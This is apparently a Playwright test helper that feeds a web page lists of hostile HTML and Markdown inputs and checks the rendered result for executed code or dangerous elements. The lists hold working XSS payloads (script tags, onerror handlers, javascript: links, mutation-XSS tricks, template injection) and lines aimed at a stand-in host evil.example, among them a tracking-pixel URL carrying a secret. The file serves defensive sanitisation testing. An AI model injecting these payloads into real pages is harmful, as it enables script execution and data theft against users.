import { expect, type Page } from '@playwright/test'

/** What a model, a server or a person who shares a file may write to run code in the page, or to call home. */
export const HOSTILE: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"><animate onbegin="window.pwned = 3" attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwned = 4</script>"></iframe></foreignObject></svg>',
  '<iframe src="javascript:parent.pwned = 5"></iframe>',
  '<a href="javascript:window.pwned = 6">here</a>',
  '<math><mtext></p><style><img src=x onerror="window.pwned = 7"></style></mtext></math>',
  '</title></textarea></style></noscript><img src=x onerror="window.pwned = 8">',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '{{constructor.constructor("window.pwned = 9")()}}',
  '${window.pwned = 10}',
  '\u202Egnp.exe\u202C \u2066rtl\u2069 \u0000\u0007\u001b[31m',
  '__proto__',
  'constructor',
  'x'.repeat(5000),
]

export const HOSTILE_MARKDOWN = [
  ...HOSTILE.slice(0, -1),
  '[here](javascript:window.pwned=20) [there](  JaVaScRiPt:window.pwned=21) [so](java&#115;cript:window.pwned=22)',
  '[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MjM8L3NjcmlwdD4=) [vb](vbscript:x) [f](file:///etc/passwd)',
  '![pixel](https://evil.example/pixel.png?q=secret) ![x](javascript:window.pwned=24)',
  '<https://evil.example/auto> [ref][1] [blob](blob:https://evil.example/1)',
  '[1]: javascript:window.pwned=25 "title"',
  '```html\n<script>window.pwned = 26</script>\n```\n```"><img/src/onerror=window.pwned=27>\ncode\n```',
  '| <img src=x onerror=window.pwned=28> | b |\n|---|---|\n| [x](javascript:window.pwned=29) | `<svg onload=window.pwned=30>` |',
  '$\\href{javascript:window.pwned=31}{x}$ $$\\text{<img src=x onerror=window.pwned=32>}$$ \\(\\includegraphics{https://evil.example/x.png}\\)',
  '<details open ontoggle="window.pwned = 33"><summary>x</summary></details>',
].join('\n\n')

/** Elements that no reply may bring into the page, and attributes that run code or lead out of it. */
const DANGEROUS = [
  ...['script', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'form', 'style'],
  'foreignObject',
]

/**
 * Throws where something hostile has become more than text: code that ran, an element or attribute that could run it, a
 * link to a scheme that could. That nothing was asked of another origin is the guard's part.
 *
 * @param selector Where the hostile text is shown.
 */
export async function expectHarmless(page: Page, selector = 'main'): Promise<void> {
  const found = await page.locator(selector).evaluateAll((roots, dangerous) => {
    const faults: string[] = []
    if ('pwned' in window) faults.push(`code ran: ${String(window.pwned)}`)
    if ('polluted' in {}) faults.push('a prototype was changed')
    for (const element of roots.flatMap((root) => [...root.querySelectorAll('*')])) {
      const name = element.localName
      // The page's own form of parameters stands there as well.
      const ours = name === 'form' && !element.hasAttribute('action')
      if (dangerous.includes(name) && !ours)
        faults.push(`<${name}> ${element.outerHTML.slice(0, 80)}`)
      for (const { name: attribute, value } of element.attributes) {
        const url = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute)
        const scheme = url
          ? /^[\s\0-\x20]*([a-z][a-z0-9+.-]*):/i.exec(value)?.[1]?.toLowerCase()
          : ''
        if (/^on/i.test(attribute) || attribute === 'srcdoc') faults.push(`${attribute}="${value}"`)
        if (scheme && !['http', 'https', 'mailto', 'blob', 'data'].includes(scheme))
          faults.push(`${attribute}="${value}"`)
        if (scheme === 'data' && !/^data:(image|audio|video)\//i.test(value) && name === 'a')
          faults.push(`${attribute}="${value.slice(0, 80)}"`)
      }
    }
    return faults
  }, DANGEROUS)
  expect(found).toEqual([])
}
